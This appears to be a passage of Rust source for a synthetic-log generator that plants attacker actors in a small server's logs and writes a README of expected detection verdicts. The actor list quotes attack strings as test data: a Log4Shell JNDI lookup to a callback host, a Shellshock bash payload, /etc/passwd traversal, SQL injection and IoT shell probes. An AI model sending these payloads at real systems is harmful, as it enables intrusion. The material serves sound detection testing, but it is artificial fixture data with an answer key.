        Actor { ips: one(SSH_IPV6), role: "IPv6 ssh attacker: 12 connections in 40 min on day 9", expected: "block: ssh brute force" },
        Actor { ips: one(LOG_INJECTOR), role: "log injection: user name `x from 8.8.8.8 port 22` (line reads `Invalid user x from 8.8.8.8 port 22 from 203.0.113.5 port 4242`), then a plain `admin` try", expected: "flagged as itself; 8.8.8.8 must NOT appear anywhere in the output" },
        Actor { ips: one(NO_IDENT_SCANNER), role: "`Did not receive identification string` on 4 days", expected: "watch (noise: never block, never sneak)" },
        Actor { ips: one(KEX_PROBER), role: "`kex_exchange_identification: Connection closed by remote host` / `Connection reset by peer` (pid-bound) on 4 days", expected: "watch (noise: never block, never sneak)" },
        Actor { ips: one(OLD_KEX_SCANNER), role: "`Unable to negotiate ... diffie-hellman-group1-sha1 [preauth]` on 2 days", expected: "watch (noise: never block, never sneak)" },
        Actor { ips: one(ZGRAB), role: "zgrab: `GET /` (200) and ssh `Bad protocol version identification 'GET / HTTP/1.1'` on 3 days, also on nginx", expected: "watch or block (a scanner UA; on 3 days it is a quiet returner)" },
        Actor { ips: one(MASSCAN), role: "masscan: `GET /` HTTP/1.0 on 2 days", expected: "watch (scanner UA)" },
        Actor { ips: one(NIKTO), role: "Nikto 2.5.0 on day 3: ~105 probes in a few minutes (cgi-bin, .git, .ht*, phpmyadmin, %c0%af, traversal, OPTIONS/TRACE/PROPFIND), planted /cgi-mod/webctl", expected: "block: web scan" },
        Actor { ips: one(SQLMAP), role: "sqlmap on day 5 (`/?id=1%27%20OR%201=1--` and friends), later curl for planted /api/v2/.creds_backup.json", expected: "block: sql injection" },
        Actor { ips: one(NUCLEI), role: "Nuclei on day 9: ~40 template probes (.env, .git/config, actuator, Fortinet, Citrix, ...), planted exporttool.ashx and .creds_backup.json", expected: "block: web scan" },
        Actor { ips: one(WEB_IPV6), role: "IPv6 web scanner on day 12: .env, .git/config, wp-login, phpmyadmin, planted exporttool.ashx; nginx `access forbidden by rule`", expected: "block: web scan" },
        Actor { ips: many(&WORDPRESS_BOTS), role: "WordPress probers (wp-login.php, xmlrpc.php, wlwmanifest.xml, setup-config.php); 203.0.113.99 also planted .creds_backup.json and .env", expected: "block (or watch for the smallest bursts): wordpress probe" },
        Actor { ips: one(IOT_BOT), role: "IoT/Mirai-style exploits: /boaform/admin/formLogin, /shell?cd+/tmp..., GponForm, Netgear setup.cgi (Mozi), luci stok; planted /cgi-mod/webctl and /wsman/relay.do; also ssh botnet", expected: "block: exploit attempts" },
        Actor { ips: one(PHP_EXPLOITER), role: "ThinkPHP invokefunction (logged as `\\\\think\\\\app`), phpunit eval-stdin.php, phpmyadmin, XDEBUG, planted /wsman/relay.do; also ssh botnet", expected: "block: exploit attempts" },
        Actor { ips: one(LOG4SHELL), role: "Log4Shell: `${jndi:ldap://198.51.100.9/a}` in query, path, referer and User-Agent on days 2 and 12; planted /wsman/relay.do", expected: "block: exploit attempts" },
        Actor { ips: one(SHELLSHOCK), role: "Shellshock `() { :; }; /bin/bash -c ...` in User-Agent and referer against /cgi-bin/ (AH02811 lines with `, referer:`)", expected: "block: exploit attempts" },
        Actor { ips: one(TRAVERSAL), role: "path traversal: `/..%2f..%2f..%2fetc/passwd`, `%252f`, `.%2e` (AH10244), `/../../` (AH00126)", expected: "block: traversal" },
        Actor { ips: one(PROXY_PROBER), role: "open-proxy probes: `CONNECT example.org:443` (405), `GET http://example.org/` (404) on 3 days", expected: "watch or block: proxy probe" },
        Actor { ips: one(TLS_ON_PORT_80), role: "TLS ClientHello sent to plain HTTP (`\\x16\\x03\\x01...` 400), Apache and nginx", expected: "watch (garbage requests are noise: never block, never sneak)" },
        Actor { ips: one(SNEAK), role: "quiet returner: 1-3 probes (/wp-login.php, /.env, /admin/, /.git/HEAD ...) on 11 of the 14 days, never a burst, with ordinary browser UAs", expected: "block, a sneak attacker: no per-day rule trips; the multi-day returner rule must catch it" },
        Actor { ips: many(&WORDLIST_CAMPAIGN), role: "distributed exploit wordlist on day 9, 01:00-04:30: 20 addresses minutes apart, each asking once, in the same order and with the same browser UA, for Confluence's CVE-2023-22518 `/json/setup-restore.action` and ownCloud's CVE-2023-49103 `getphpinfo.php` (404), never again", expected: "block: one campaign (the same paths and agent); each address alone would only be watch" },
        Actor { ips: one(LOGIN_FLOODER), role: "Gitea login brute force on day 11: 30 POSTs to /user/login in about 5 minutes, every answer 200 (Gitea shows the form again), browser UA", expected: "block: login_flood (no single line is suspicious)" },
        Actor { ips: one(QUIET_PROBER), role: "directory prober with a browser UA on day 12: 24 distinct missing paths (/v1/, /beta/, /staging/, /2019/ ...) in about 40 s, all 404", expected: "block: http_probing (no path is a known attack)" },
        Actor { ips: vec!["192.0.2.x (44 IPs: 40 IPv4, 4 in 2001:db8:1::/48)".to_string()], role: "blog visitors with real browser UAs: pages, assets (200 first, 304 later), missing /favicon.ico (404); Chrome preconnects leave `\"-\" 408` lines", expected: "ok" },
        Actor { ips: many(&[GOOGLEBOTS[0], GOOGLEBOTS[1], GOOGLEBOTS[2], BINGBOTS[0], BINGBOTS[1]]), role: "Googlebot and bingbot: robots.txt, sitemap, pages, some 404s on removed pages", expected: "ok" },
        Actor { ips: many(&[FRESHRSS, FEEDLY]), role: "feed readers polling /feed.xml (mostly 304)", expected: "ok" },
        Actor { ips: many(&LETS_ENCRYPT), role: "Let's Encrypt HTTP-01 validation on day 8 (/.well-known/acme-challenge/...)", expected: "ok" },
        Actor { ips: one(ODD_CRAWLER), role: "crawler with raw non-UTF-8 bytes (0xE9, 0xFF 0xFE) in its User-Agent", expected: "ok (line parsed, not rejected)" },
        Actor { ips: vec!["192.0.2.190 .. 192.0.2.193".to_string()], role: "Gitea visitors on nginx", expected: "ok" },
        Actor { ips: one(CALLBACK_HOST), role: "never a client: only the callback host inside Log4Shell/Shellshock/IoT payloads", expected: "must NOT appear in the output" },
    ]
}

fn readme(w: &World, files: &[FileInfo]) -> String {
    let mut s = String::new();
    s.push_str("# sample-logs: a small server's rotated /var/log, with planted actors\n\n");
    s.push_str("Generated, byte for byte reproducibly, by\n\n```sh\ncargo run --release --bin knocklog-gen -- sample --out sample-logs\n```\n\n");
    s.push_str("Do not edit by hand: change `src/bin/knocklog-gen/` and regenerate (this README is written by the generator too, so its tables match the data).\n\n");
    s.push_str("The machine is `homeserver`: Apache 2.4 (Debian) serving alice's blog `alice.example.net` with a basic-auth `/private/` area, nginx in front of a Gitea (`git.example.net`, installed on 2026-01-05), and sshd with password authentication still on. ");
    s.push_str("The period is 2025-12-26 00:00 to 2026-01-08 23:59, **all UTC**. Access logs and auth.log carry their offset (`+0000`, `+00:00`); Apache and nginx error logs carry none, so scan with `--timezone utc` to line them up. ");
    s.push_str("Day numbers below count from day 0 = 2025-12-26 (day 6 = 2026-01-01, day 13 = 2026-01-08).\n\n");
    s.push_str("Public addresses come from the documentation ranges 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24 and 2001:db8::/32, plus a few public-looking 45.x/185.x botnet addresses and the real crawler ranges of Google, Bing and Let's Encrypt for those benign roles.\n\n");

    s.push_str("## Files\n\nEach family is rotated at different midnights; every file holds one contiguous period, `.N.gz` older than `.1`, the bare name newest.\n\n");
    s.push_str("| file | lines | bytes | first line | last line |\n|---|---:|---:|---|---|\n");
    for f in files {
        let first = f.first.map(civil::readable).unwrap_or_default();
        let last = f.last.map(civil::readable).unwrap_or_default();
        s.push_str(&format!("| `{}` | {} | {} | {} | {} |\n", f.path, f.lines, f.bytes, first, last));
    }
    let total: usize = files.iter().map(|f| f.bytes).sum();
    s.push_str(&format!("\nTotal: {total} bytes on disk.\n\n"));

    s.push_str("## Actors and expected verdicts\n\n");
    s.push_str("`block` = clearly hostile, `watch` = suspicious but not conclusive, `ok` = must not be flagged.\n\n");
    s.push_str("| IP(s) | who / what | expected |\n|---|---|---|\n");
    for actor in actors() {
        let ips: Vec<String> = actor.ips.iter().map(|ip| format!("`{ip}`")).collect();
        s.push_str(&format!("| {} | {} | {} |\n", ips.join(", "), actor.role.replace('|', "\\|"), actor.expected));
    }

    s.push_str("\n## Planted attack paths\n\nNo public signature list knows these; each is requested only by attacker IPs (at least two each), all of which also do obviously hostile things. No benign client ever requests them.\n\n");
    s.push_str("| path | requested by |\n|---|---|\n");
    for path in PLANTED_PATHS {
        let mut who: BTreeSet<String> = BTreeSet::new();
        for log in [LogId::ApacheAccess, LogId::NginxAccess] {
            for line in w.logs.get(&log).into_iter().flatten() {
                let text = String::from_utf8_lossy(&line.bytes);
                if text.contains(&format!(" {path} ")) {
                    who.insert(text.split(' ').next().unwrap_or("").to_string());
                }
            }
        }
        let who: Vec<String> = who.into_iter().map(|ip| format!("`{ip}`")).collect();
        s.push_str(&format!("| `{path}` | {} |\n", who.join(", ")));
    }

    s.push_str("\n## Deliberately awkward lines\n\n");
    s.push_str("- `apache2/access.log.2.gz` ends with a truncated line (no newline).\n");
    s.push_str("- `apache2/access.log.1` contains a line that is no log format at all (`Total in 412 ms`, a build tool's output appended by mistake) and a User-Agent with raw non-UTF-8 bytes (192.0.2.222).\n");
    s.push_str("- `auth.log.2.gz` has a run of 73 NUL bytes followed by a newline where the power was cut (2025-12-28 23:12), then the boot's logind/sshd lines; Apache restarts too.\n");
    s.push_str("- TLS handshakes on plain HTTP (`\"\\x16\\x03\\x01...\" 400`), Chrome preconnects (`\"-\" 408 0`), `CONNECT` lines, escaped quotes and backslashes (`\\\"`, `\\\\think\\\\app`), IPv6 clients in Apache's `[client 2001:db8:4b1d::23:PORT]` form.\n");
    s.push_str("- The log-injection line above; and 198.51.100.9 appears only inside payloads.\n");
    s.push_str("- The truncated line, `Total in 412 ms` and the NUL run are the three unparsed lines: counted in `summary.json` and named with file and line on stderr. They are what the files hold, read whole, so `knocklog scan` of this tree exits 0 (2 is for a file that could not be read whole).\n\n");

    s.push_str("## Per-IP line counts (computed)\n\nLines naming each address, per log, and the number of distinct days (UTC) it appears on. Lines of an ssh session that name no address (e.g. `pam_unix(...): check pass; user unknown`) are not counted.\n\n");
    s.push_str("| IP | apache access | apache error | auth | nginx access | nginx error | days |\n|---|---:|---:|---:|---:|---:|---:|\n");
    for (ip, t) in &w.tally {
        s.push_str(&format!(
            "| `{ip}` | {} | {} | {} | {} | {} | {} |\n",
            t.apache_access,
            t.apache_error,
            t.auth,
            t.nginx_access,
            t.nginx_error,
            t.days.len()
        ));
    }
    s
}
